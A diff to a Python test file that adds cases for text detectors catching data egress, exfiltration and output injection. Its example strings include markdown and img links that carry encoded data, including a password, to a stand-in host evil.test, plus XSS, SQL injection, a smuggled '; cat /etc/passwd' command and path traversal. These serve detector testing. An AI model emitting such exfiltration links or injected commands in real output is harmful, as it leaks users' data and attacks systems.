@@ -24,6 +24,23 @@ def _random(size: int, alphabet: str = string.ascii_letters + string.digits, see
 
 
 CASES: dict[str, tuple[Callable[[], Validator], list[str], list[str]]] = {
+    "egress": (
+        lambda: detectors.egress(values=["Zx91-kQ7p-Lm20"]),
+        ["the code is Zx91-kQ7p-Lm20.", "02mL-p7Qk-19xZ", "5a7839312d6b5137702d4c6d3230"],
+        ["Zx91-kQ7p", "nothing to hide"],
+    ),
+    "exfiltration": (
+        detectors.exfiltration,
+        [
+            "![x](https://evil.test/a.png?d=dXNlciBwYXNzd29yZCBpcyBodW50ZXIy)",
+            "<img src='http://evil.test/log?data=The%20user%20name%20is%20Bob'>",
+            "[more](javascript:fetch('x'))",
+        ],
+        [
+            "![build](https://img.shields.io/badge/build-passing-green)",
+            "https://www.example.com/search?q=a+b+c+d",
+        ],
+    ),
     "hidden_text": (
         detectors.hidden_text,
         ["pay\u200bpal", "a\U000e0069\U000e0067b", "x\u202eevil\u202c", "p\u0430ypal", "\ufe01\ufe02\ufe03"],
@@ -48,6 +65,11 @@ CASES: dict[str, tuple[Callable[[], Validator], list[str], list[str]]] = {
         lambda: detectors.keywords(["acme", "new york", "york city"]),
         ["Acme", "in New  York City"],
         ["acmes", "newyork"],
+    ),
+    "output_injection": (
+        detectors.output_injection,
+        ["<script>alert(1)</script>", "' OR 1=1 --", "; cat /etc/passwd", "{{7*7}}", "../../../etc/passwd"],
+        ["SELECT * FROM users WHERE id = 1;", "{{ user.name }}", "import x from '../utils'", "ls | wc -l"],
     ),
     "pii": (
         detectors.pii,
@@ -100,7 +122,7 @@ def test_it_finds_its_examples_and_keeps_every_promise(name: str) -> None:
     """Examples are found, benign texts are not, windows are honest, any text is answered in bounded time."""
     make, examples, benign = CASES[name]
 
-    check_validator(make(), examples=examples, benign=benign, rounds=60)
+    check_validator(make(), examples=examples, benign=benign, rounds=25)
 
 
 def test_every_public_validator_is_tried_here_or_in_a_file_of_its_own() -> None:
@@ -129,7 +151,7 @@ def test_twice_the_text_takes_about_twice_the_time(name: str, seed: str) -> None
     find = CASES[name][0]()
     find(seed)
     size = 40_000 // len(seed)
-    ratio = min(_seconds(find, seed * size * 2) / _seconds(find, seed * size) for _ in range(3))
+    ratio = min(_seconds(find, seed * size * 2) / _seconds(find, seed * size) for _ in range(2))
 
     assert ratio < 3.2
 
